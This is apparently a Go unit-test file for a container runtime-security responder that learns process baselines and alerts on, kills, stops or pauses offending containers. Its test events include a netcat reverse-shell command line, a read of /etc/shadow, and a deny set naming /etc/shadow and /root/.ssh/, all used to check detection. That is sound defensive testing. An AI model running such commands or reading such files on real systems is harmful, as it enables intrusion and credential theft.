package prevent

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"log/slog"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	ctr "github.com/moby/moby/api/types/container"
	"github.com/moby/moby/client"

	"github.com/bulkhead-sec/bulkhead/internal/runtime/prevent/profile"
	"github.com/bulkhead-sec/bulkhead/internal/runtime/rules"
)

// fakeDocker answers inspect from a table and records pause/stop calls.
// It stands in for the Engine only in the unit tests; the integration
// tests use the real client.
type fakeDocker struct {
	mu     sync.Mutex
	byID   map[string]ctr.InspectResponse
	paused []string
	stops  []string
}

func (f *fakeDocker) ContainerInspect(_ context.Context, id string, _ client.ContainerInspectOptions) (client.ContainerInspectResult, error) {
	for k, v := range f.byID {
		if strings.HasPrefix(k, id) {
			return client.ContainerInspectResult{Container: v}, nil
		}
	}
	return client.ContainerInspectResult{}, errors.New("no such container: " + id)
}

func (f *fakeDocker) ContainerPause(_ context.Context, id string, _ client.ContainerPauseOptions) (client.ContainerPauseResult, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.paused = append(f.paused, id)
	return client.ContainerPauseResult{}, nil
}

func (f *fakeDocker) ContainerStop(_ context.Context, id string, o client.ContainerStopOptions) (client.ContainerStopResult, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.stops = append(f.stops, id)
	return client.ContainerStopResult{}, nil
}

const webID = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"

func newFake() *fakeDocker {
	return &fakeDocker{byID: map[string]ctr.InspectResponse{
		webID: {ID: webID, Name: "/web-1", Config: &ctr.Config{Image: "web:1", Labels: map[string]string{"app": "web"}},
			State: &ctr.State{Running: false}},
	}}
}

func ev(t testing.TB, fields map[string]any) *rules.MapEvent {
	t.Helper()
	if _, ok := fields["container.id"]; !ok {
		fields["container.id"] = webID[:12]
	}
	e, err := rules.NewMapEvent(fields)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func policyText(t testing.TB, dir, mode string) *Policy {
	t.Helper()
	p, err := ParsePolicy(strings.NewReader(`profiles: ` + dir + `
actions:
  - {rule: Terminal shell in container, action: kill}
  - {tag: stopme, action: stop}
  - {tag: pauseme, action: pause}
containers:
  - {name: web, match: {labels: {app: web}}, mode: ` + mode + `}
`))
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func TestLearnThenMonitor(t *testing.T) {
	dir := t.TempDir()
	ctx := context.Background()
	r, err := NewResponder(policyText(t, dir, "learn"), Options{Docker: newFake()})
	if err != nil {
		t.Fatal(err)
	}
	learnt := []map[string]any{
		{"evt.type": "execve", "proc.exepath": "/usr/sbin/nginx", "proc.pid": 10},
		{"evt.type": "openat", "proc.exepath": "/usr/sbin/nginx", "fd.name": "/etc/nginx/nginx.conf"},
		{"evt.type": "connect", "proc.exepath": "/usr/sbin/nginx", "fd.sip": "10.0.0.5", "fd.sport": 5432, "fd.l4proto": "tcp"},
		{"evt.type": "listen", "proc.exepath": "/usr/sbin/nginx", "fd.sport": 80, "fd.l4proto": "tcp"},
	}
	for _, f := range learnt {
		if a := r.Observe(ctx, ev(t, f)); a != nil {
			t.Fatalf("learn mode alerted: %v", a)
		}
	}
	if err := r.Close(); err != nil {
		t.Fatal(err)
	}
	files, _ := filepath.Glob(filepath.Join(dir, "web_web_1_*.json"))
	if len(files) != 1 {
		t.Fatalf("profile files %v", files)
	}

	var logs bytes.Buffer
	r, err = NewResponder(policyText(t, dir, "monitor"), Options{Docker: newFake(), Logger: slog.New(slog.NewJSONHandler(&logs, nil))})
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	for _, f := range learnt {
		if a := r.Observe(ctx, ev(t, f)); a != nil {
			t.Errorf("baseline event alerted: %v", a[0].Output)
		}
	}
	cases := []struct {
		fields map[string]any
		rule   string
		field  string
	}{
		{map[string]any{"evt.type": "execve", "proc.exepath": "/bin/nc", "proc.cmdline": "nc -e /bin/sh 1.2.3.4 4444", "proc.pid": 99, "container.name": "web-1"}, ruleProcess, "proc.exepath"},
		{map[string]any{"evt.type": "openat", "proc.exepath": "/usr/sbin/nginx", "fd.name": "/etc/shadow"}, ruleFile, "fd.name"},
		{map[string]any{"evt.type": "connect", "proc.exepath": "/usr/sbin/nginx", "fd.sip": "1.2.3.4", "fd.sport": 4444, "fd.l4proto": "tcp"}, ruleConnection, "fd.sip"},
		{map[string]any{"evt.type": "bind", "proc.exepath": "/usr/sbin/nginx", "fd.sport": 31337, "fd.l4proto": "tcp"}, ruleListen, "fd.sport"},
	}
	for _, c := range cases {
		t.Run(c.rule, func(t *testing.T) {
			alerts := r.Observe(ctx, ev(t, c.fields))
			if len(alerts) != 1 {
				t.Fatalf("alerts %v", alerts)
			}
			a := alerts[0]
			if a.Rule != c.rule || a.Priority != rules.PriorityWarning || a.Source != "bulkhead" {
				t.Errorf("alert %+v", a)
			}
			if want := ev(t, c.fields); a.OutputFields[c.field] != fieldString(want, c.field) {
				t.Errorf("output field %s = %q", c.field, a.OutputFields[c.field])
			}
			if !strings.Contains(a.Output, "container_id="+webID[:12]) || !strings.Contains(a.Output, "mode=monitor") ||
				strings.Contains(a.Output, "%") {
				t.Errorf("output %q", a.Output)
			}
			// The same item is reported once.
			if again := r.Observe(ctx, ev(t, c.fields)); again != nil {
				t.Errorf("repeated alert %v", again)
			}
		})
	}
	// Host events have no baseline.
	if a := r.Observe(ctx, ev(t, map[string]any{"evt.type": "execve", "proc.exepath": "/x", "container.id": "host"})); a != nil {
		t.Errorf("host event alerted: %v", a)
	}
}

func fieldString(e rules.Event, name string) string {
	v, _ := e.Field(name, "")
	return v.String()
}

func TestProtectWithoutProfileLearns(t *testing.T) {
	dir := t.TempDir()
	var logs bytes.Buffer
	r, err := NewResponder(policyText(t, dir, "protect"), Options{Docker: newFake(), Logger: slog.New(slog.NewTextHandler(&logs, nil))})
	if err != nil {
		t.Fatal(err)
	}
	if a := r.Observe(context.Background(), ev(t, map[string]any{"evt.type": "execve", "proc.exepath": "/bin/sh"})); a != nil {
		t.Errorf("alerted without a profile: %v", a)
	}
	if !strings.Contains(logs.String(), "no baseline profile; the container learns instead") {
		t.Errorf("downgrade not logged:\n%s", logs.String())
	}
	recs := r.Handle(context.Background(), rules.Alert{Rule: "x", Tags: []string{"stopme"}}, ev(t, map[string]any{}))
	if len(recs) != 1 || recs[0].Result != "skipped: mode learn" {
		t.Errorf("records %+v", recs)
	}
	r.Close()
}

func TestHandleModesAndDryRun(t *testing.T) {
	ctx := context.Background()
	p, err := ParsePolicy(strings.NewReader(`
actions:
  - {tag: stopme, action: stop}
  - {tag: pauseme, action: pause}
  - {rule: "Both*", action: stop}
  - {rule: "Both*", action: stop}
`))
	if err != nil {
		t.Fatal(err)
	}
	fake := newFake()
	var logs bytes.Buffer
	log := slog.New(slog.NewJSONHandler(&logs, nil))

	dry, _ := NewResponder(p, Options{Docker: fake, DryRun: true, Logger: log})
	recs := dry.Handle(ctx, rules.Alert{Rule: "r", Tags: []string{"stopme", "pauseme"}}, ev(t, map[string]any{"proc.pid": 5}))
	if len(recs) != 2 || recs[0].Result != "would stop" || recs[1].Result != "would pause" {
		t.Fatalf("dry-run records %+v", recs)
	}
	if len(fake.stops)+len(fake.paused) != 0 {
		t.Fatal("dry run acted")
	}
	if !strings.Contains(logs.String(), `"result":"would stop"`) || !strings.Contains(logs.String(), `"container_id":"0123456789ab"`) {
		t.Errorf("dry-run log:\n%s", logs.String())
	}
	dry.Close()

	live, _ := NewResponder(p, Options{Docker: fake, Logger: log})
	defer live.Close()
	recs = live.Handle(ctx, rules.Alert{Rule: "r", Tags: []string{"stopme"}}, ev(t, map[string]any{}))
	if len(recs) != 1 || recs[0].Action != ActionStop || recs[0].Result != "done" || recs[0].Target != "container web-1 (0123456789ab)" {
		t.Fatalf("records %+v", recs)
	}
	if len(fake.stops) != 1 || fake.stops[0] != webID {
		t.Errorf("stop calls %v", fake.stops)
	}
	// Duplicate entries act once.
	if recs := live.Handle(ctx, rules.Alert{Rule: "Both ways"}, ev(t, map[string]any{})); len(recs) != 1 {
		t.Errorf("records %+v", recs)
	}
	// No entry: the default alert.
	recs = live.Handle(ctx, rules.Alert{Rule: "quiet"}, ev(t, map[string]any{}))
	if len(recs) != 1 || recs[0].Action != ActionAlert || recs[0].Result != "alerted" {
		t.Errorf("default records %+v", recs)
	}
	// pause/stop need a container.
	recs = live.Handle(ctx, rules.Alert{Rule: "r", Tags: []string{"pauseme"}}, ev(t, map[string]any{"container.id": "host"}))
	if len(recs) != 1 || recs[0].Err == nil {
		t.Errorf("host pause records %+v", recs)
	}
}

func TestKillHostProcess(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("kill of another user's process needs root; the test kills its own child anyway")
	}
	ctx := context.Background()
	p, err := ParsePolicy(strings.NewReader("actions: [{rule: Kill me, action: kill}]\n"))
	if err != nil {
		t.Fatal(err)
	}
	r, _ := NewResponder(p, Options{})
	defer r.Close()

	// An event older than the process: the pid belongs to someone else.
	cmd := exec.Command("sleep", "60")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer cmd.Process.Kill()
	old := time.Now().Add(-time.Hour).UnixNano()
	recs := r.Handle(ctx, rules.Alert{Rule: "Kill me"}, ev(t, map[string]any{"container.id": "host", "proc.pid": cmd.Process.Pid, "evt.rawtime": old}))
	if len(recs) != 1 || recs[0].Result != "refused" || !errors.Is(recs[0].Err, ErrPIDReused) {
		t.Fatalf("records %+v", recs)
	}
	if err := cmd.Process.Signal(syscall.Signal(0)); err != nil {
		t.Fatalf("process was killed despite the guard: %v", err)
	}

	// A recorded exec start time that does not match: refused too.
	r.starts.mu.Lock()
	r.starts.m[cmd.Process.Pid] = 1
	r.starts.mu.Unlock()
	recs = r.Handle(ctx, rules.Alert{Rule: "Kill me"}, ev(t, map[string]any{"container.id": "host", "proc.pid": cmd.Process.Pid}))
	if len(recs) != 1 || !errors.Is(recs[0].Err, ErrPIDReused) {
		t.Fatalf("records %+v", recs)
	}

	// The event's own process (its exec observed): killed.
	r.Observe(ctx, ev(t, map[string]any{"container.id": "host", "evt.type": "execve", "proc.pid": cmd.Process.Pid}))
	recs = r.Handle(ctx, rules.Alert{Rule: "Kill me"}, ev(t, map[string]any{"container.id": "host", "proc.pid": cmd.Process.Pid, "evt.rawtime": time.Now().UnixNano()}))
	if len(recs) != 1 || recs[0].Result != "done" || recs[0].Err != nil {
		t.Fatalf("records %+v", recs)
	}
	err = cmd.Wait()
	var ee *exec.ExitError
	if !errors.As(err, &ee) || ee.Sys().(syscall.WaitStatus).Signal() != syscall.SIGKILL {
		t.Fatalf("process ended with %v, want SIGKILL", err)
	}
}

func TestParseStatStart(t *testing.T) {
	line := "1234 (a) b (c)) S 1 1234 1234 0 -1 4194560 100 0 0 0 1 2 0 0 20 0 1 0 987654 1000 100 ...\n"
	got, err := parseStatStart([]byte(line))
	if err != nil || got != 987654 {
		t.Fatalf("got %d, %v", got, err)
	}
	if _, err := parseStatStart([]byte("1 (x) S 1 2")); err == nil {
		t.Error("short line accepted")
	}
	st, err := procStart(os.Getpid())
	if err != nil {
		t.Fatal(err)
	}
	if d := time.Since(st.wall); d < 0 || d > 10*time.Minute {
		t.Errorf("own start time %v ago", d)
	}
}

func TestRender(t *testing.T) {
	e := ev(t, map[string]any{"proc.name": "nc", "proc.pid": 7})
	text, fields := render("run %proc.name (pid=%proc.pid) %missing.field %% 100%. mode=%mode.", e, map[string]string{"mode": "protect"})
	want := "run nc (pid=7) <NA> %% 100%. mode=protect."
	if text != want {
		t.Errorf("text %q, want %q", text, want)
	}
	if fields["proc.name"] != "nc" || fields["proc.pid"] != "7" || fields["missing.field"] != "<NA>" || fields["mode"] != "protect" {
		t.Errorf("fields %v", fields)
	}
}

func TestParseMountInfo(t *testing.T) {
	in := `70 45 0:38 / / rw,nodev,noatime master:2 - fuse.fuse-overlayfs fuse-overlayfs rw
71 70 0:40 / /proc rw,nosuid,nodev,noexec,relatime - proc proc rw
72 70 0:41 / /dev rw,nosuid - tmpfs tmpfs rw,size=65536k,mode=755
86 72 0:45 / /dev/shm rw,nosuid,nodev,noexec,relatime - tmpfs shm rw,size=65536k
90 70 254:0 /data /mnt/my\040data rw,relatime - ext4 /dev/vda rw
`
	got, err := parseMountInfo(strings.NewReader(in))
	if err != nil {
		t.Fatal(err)
	}
	want := []mountInfo{{"/", "fuse.fuse-overlayfs", false}, {"/proc", "proc", true}, {"/dev", "tmpfs", false}, {"/dev/shm", "tmpfs", true}, {"/mnt/my data", "ext4", false}}
	if len(got) != len(want) {
		t.Fatalf("got %+v", got)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("mount %d: %+v, want %+v", i, got[i], want[i])
		}
	}
}

func TestRunningContainerIDs(t *testing.T) {
	root := t.TempDir()
	write := func(pid, content string) {
		if err := os.MkdirAll(filepath.Join(root, pid), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(root, pid, "cgroup"), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("1", "0::/init.scope\n")
	write("10", "12:cpu:/docker/"+webID+"\n11:memory:/docker/"+webID+"\n")
	write("11", "0::/system.slice/docker-"+strings.Repeat("b", 64)+".scope\n")
	write("self", "0::/docker/"+strings.Repeat("c", 64)+"\n")
	got, err := runningContainerIDs(root)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 2 || !(got[0] == webID || got[1] == webID) {
		t.Errorf("ids %v", got)
	}
}

func TestDenySetMatch(t *testing.T) {
	d := denySet{paths: []string{"/etc/shadow", "/root/.ssh/"}}
	for p, want := range map[string]bool{"/etc/shadow": true, "/etc/shadow-": false, "/root/.ssh/id_rsa": true, "/root/.sshx": false} {
		if d.match(p) != want {
			t.Errorf("match(%q) != %v", p, want)
		}
	}
}

func TestSweepForgetsGoneContainers(t *testing.T) {
	cmd := exec.Command("sleep", "60")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	fake := newFake()
	fake.byID[webID] = ctr.InspectResponse{ID: webID, Name: "/web-1", Config: &ctr.Config{Image: "web:1"},
		State: &ctr.State{Running: true, Pid: cmd.Process.Pid}}
	p, _ := ParsePolicy(strings.NewReader("actions: [{rule: r, action: alert}]\n"))
	r, _ := NewResponder(p, Options{Docker: fake})
	defer r.Close()
	r.Handle(context.Background(), rules.Alert{Rule: "r"}, ev(t, map[string]any{}))
	r.sweep()
	if len(r.containers) != 1 {
		t.Fatalf("running container forgotten: %d", len(r.containers))
	}
	_ = cmd.Process.Kill()
	_ = cmd.Wait()
	r.sweep()
	if len(r.containers) != 0 {
		t.Fatalf("gone container kept: %d", len(r.containers))
	}
}

func TestSelectorFromEventWithoutDocker(t *testing.T) {
	dir := t.TempDir()
	r, err := NewResponder(policyText(t, dir, "learn"), Options{})
	if err != nil {
		t.Fatal(err)
	}
	e := ev(t, map[string]any{"evt.type": "execve", "proc.exepath": "/bin/app", "container.label[app]": "web",
		"container.image.repository": "web", "container.image.tag": "1"})
	r.Observe(context.Background(), e)
	if err := r.Close(); err != nil {
		t.Fatal(err)
	}
	files, _ := filepath.Glob(filepath.Join(dir, "web_web_1_*.json"))
	if len(files) != 1 {
		t.Fatalf("no profile learnt from event labels: %v", files)
	}
}

// BenchmarkObserve measures the per-event cost the sensor pays for a
// container in monitor mode (baseline hits, the common case).
func BenchmarkObserve(b *testing.B) {
	dir := b.TempDir()
	ctx := context.Background()
	r, _ := NewResponder(policyText(b, dir, "learn"), Options{Docker: newFake()})
	events := []*rules.MapEvent{
		ev(b, map[string]any{"evt.type": "openat", "proc.exepath": "/usr/sbin/nginx", "fd.name": "/etc/nginx/nginx.conf"}),
		ev(b, map[string]any{"evt.type": "connect", "proc.exepath": "/usr/sbin/nginx", "fd.sip": "10.0.0.5", "fd.sport": 5432, "fd.l4proto": "tcp"}),
		ev(b, map[string]any{"evt.type": "openat", "proc.exepath": "/usr/sbin/nginx", "fd.name": "/proc/77/status"}),
		ev(b, map[string]any{"evt.type": "read", "proc.exepath": "/usr/sbin/nginx"}),
	}
	for _, e := range events {
		r.Observe(ctx, e)
	}
	r.Close()
	r, _ = NewResponder(policyText(b, dir, "monitor"), Options{Docker: newFake()})
	defer r.Close()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; b.Loop(); i++ {
		if a := r.Observe(ctx, events[i%len(events)]); a != nil {
			b.Fatal(a)
		}
	}
}

func TestActionRecordJSON(t *testing.T) {
	rec := ActionRecord{Time: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC), Action: ActionKill, Rule: "r", PID: 7, Result: "refused", Err: ErrPIDReused}
	b, err := json.Marshal(rec)
	if err != nil {
		t.Fatal(err)
	}
	want := `{"time":"2026-01-02T03:04:05Z","action":"kill","rule":"r","pid":7,"result":"refused","error":"pid reused: the process is not the one the event came from"}`
	if string(b) != want {
		t.Errorf("got  %s\nwant %s", b, want)
	}
}

func TestLearnForThenSwitches(t *testing.T) {
	dir := t.TempDir()
	p, err := ParsePolicy(strings.NewReader("profiles: " + dir + `
containers:
  - {name: web, match: {labels: {app: web}}, mode: learn, learn_for: 1h, then: monitor}
`))
	if err != nil {
		t.Fatal(err)
	}
	// A profile that began learning two hours ago.
	b := profile.New(profile.Key{Selector: "web", Image: "web:1"}, 16, time.Now().Add(-2*time.Hour))
	b.AddExec("/usr/sbin/nginx")
	if err := (profile.Store{Dir: dir}).Save(b); err != nil {
		t.Fatal(err)
	}
	r, _ := NewResponder(p, Options{Docker: newFake()})
	defer r.Close()
	a := r.Observe(context.Background(), ev(t, map[string]any{"evt.type": "execve", "proc.exepath": "/bin/nc"}))
	if len(a) != 1 || !strings.Contains(a[0].Output, "mode=monitor") {
		t.Fatalf("after learn_for: %+v", a)
	}
	// A fresh profile keeps learning.
	dir2 := t.TempDir()
	p.Profiles = dir2
	r2, _ := NewResponder(p, Options{Docker: newFake()})
	defer r2.Close()
	if a := r2.Observe(context.Background(), ev(t, map[string]any{"evt.type": "execve", "proc.exepath": "/bin/nc"})); a != nil {
		t.Fatalf("still learning, alerted: %+v", a)
	}
}
